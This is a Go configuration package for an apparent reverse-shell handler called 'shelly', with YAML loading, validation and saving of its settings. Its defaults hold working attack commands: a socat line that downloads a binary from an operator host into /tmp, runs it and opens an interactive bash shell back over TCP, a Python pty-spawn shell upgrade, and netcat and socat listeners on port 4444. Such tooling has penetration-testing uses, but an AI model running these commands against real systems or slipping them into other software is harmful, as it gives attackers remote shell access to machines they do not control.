package config

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"

	"gopkg.in/yaml.v3"
)

// Default values for Config.
const (
	DefaultHTTPPort    = 8000
	DefaultListenPort  = 4444
	DefaultGraceMillis = 200
	DefaultBinary      = "socatx64.bin"

	DefaultPTYCommand   = `python3 -c 'import pty; pty.spawn("/bin/bash")'`
	DefaultSocatCommand = `wget -q http://{ip}:{http_port}/{binary} -O /tmp/socat; chmod +x /tmp/socat; /tmp/socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:{ip}:{port}`
)

// Config file names, in lookup order. YAML is a superset of JSON, so the
// legacy JSON file decodes with the same parser.
const (
	ConfigFileName       = "shelly.yaml"
	LegacyConfigFileName = "shelly.json"
)

// ErrNotInitialised is returned by Load when the config directory is missing.
var ErrNotInitialised = errors.New("shelly is not initialised")

// DefaultUpgrade returns upgrade settings with sensible default values.
func DefaultUpgrade() Upgrade {
	return Upgrade{
		PTYCommand:   DefaultPTYCommand,
		SocatCommand: DefaultSocatCommand,
		Binary:       DefaultBinary,
		Artifacts:    []string{"socat"},
		GraceMillis:  DefaultGraceMillis,
	}
}

// DefaultConfig returns a Config with sensible default values.
func DefaultConfig() Config {
	return Config{
		Shelly:  Shelly{HTTPPort: DefaultHTTPPort},
		Upgrade: DefaultUpgrade(),
		Listener: Command{
			Path: "nc",
			Args: []string{"-lnvp", "{port}"},
		},
		Relay: Command{
			Path: "socat",
			Args: []string{"STDIO", "tcp-listen:{port},reuseaddr"},
		},
		RawListener: Command{
			Path: "socat",
			Args: []string{"file:{tty},raw,echo=0", "tcp-listen:{port},reuseaddr,fork"},
		},
	}
}

// ValidationError represents a configuration validation error.
type ValidationError struct {
	Field   string
	Message string
}

func (e ValidationError) Error() string {
	return fmt.Sprintf("validation error: %s: %s", e.Field, e.Message)
}

// IsValidationError checks if an error is a ValidationError.
func IsValidationError(err error) bool {
	var ve ValidationError
	return errors.As(err, &ve)
}

// Load reads the config file from dir. A missing directory yields
// ErrNotInitialised; a directory without a config file yields defaults.
// Missing fields keep their default values.
func Load(dir string) (*Config, error) {
	if _, err := os.Stat(dir); err != nil {
		if os.IsNotExist(err) {
			return nil, fmt.Errorf("%w: %s does not exist", ErrNotInitialised, dir)
		}
		return nil, fmt.Errorf("failed to stat config directory: %w", err)
	}

	cfg := DefaultConfig()
	for _, name := range []string{ConfigFileName, LegacyConfigFileName} {
		data, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			if os.IsNotExist(err) {
				continue
			}
			return nil, fmt.Errorf("failed to read config file: %w", err)
		}
		if err := yaml.Unmarshal(data, &cfg); err != nil {
			return nil, fmt.Errorf("failed to parse %s: %w", name, err)
		}
		break
	}

	if err := Validate(&cfg); err != nil {
		return nil, err
	}
	return &cfg, nil
}

// Validate checks that all config values are usable. Every failing field is
// reported.
func Validate(cfg *Config) error {
	var errs []error
	if !validPort(cfg.Shelly.HTTPPort) {
		errs = append(errs, ValidationError{Field: "shelly.default_http_svr", Message: "must be between 1 and 65535"})
	}
	if cfg.Shelly.Port != 0 && !validPort(cfg.Shelly.Port) {
		errs = append(errs, ValidationError{Field: "shelly.listen_port", Message: "must be between 1 and 65535"})
	}
	if cfg.Upgrade.GraceMillis < 0 {
		errs = append(errs, ValidationError{Field: "upgrade.grace_ms", Message: "must not be negative"})
	}
	for field, cmd := range map[string]Command{
		"listener":     cfg.Listener,
		"relay":        cfg.Relay,
		"raw_listener": cfg.RawListener,
	} {
		if cmd.Path == "" {
			errs = append(errs, ValidationError{Field: field + ".command", Message: "required field is empty"})
		}
	}
	for name, shell := range cfg.Shells {
		switch shell.Listener {
		case "", ListenerNetcat, ListenerSocatRaw:
		default:
			errs = append(errs, ValidationError{
				Field:   "shells." + name + ".listener",
				Message: fmt.Sprintf("unknown listener %q", shell.Listener),
			})
		}
	}
	return errors.Join(errs...)
}

func validPort(p int) bool {
	return p > 0 && p <= 65535
}

// Save writes the config as YAML, creating the directory if needed.
func (c *Config) Save(dir string) error {
	if c == nil {
		return fmt.Errorf("config is nil")
	}
	data, err := yaml.Marshal(c)
	if err != nil {
		return fmt.Errorf("failed to marshal config: %w", err)
	}
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return fmt.Errorf("failed to create config directory: %w", err)
	}
	if err := os.WriteFile(filepath.Join(dir, ConfigFileName), data, 0o644); err != nil {
		return fmt.Errorf("failed to write config file: %w", err)
	}
	return nil
}
